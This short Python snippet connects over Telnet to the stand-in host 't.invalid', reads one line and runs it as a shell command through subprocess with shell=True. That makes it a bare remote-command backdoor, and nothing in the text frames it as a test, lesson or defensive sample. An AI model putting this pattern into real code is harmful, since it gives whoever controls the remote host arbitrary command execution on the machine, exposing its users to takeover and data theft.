import subprocess
import telnetlib

line = telnetlib.Telnet("t.invalid", 23).read_until(b"\n").decode()
subprocess.run(line, shell=True)
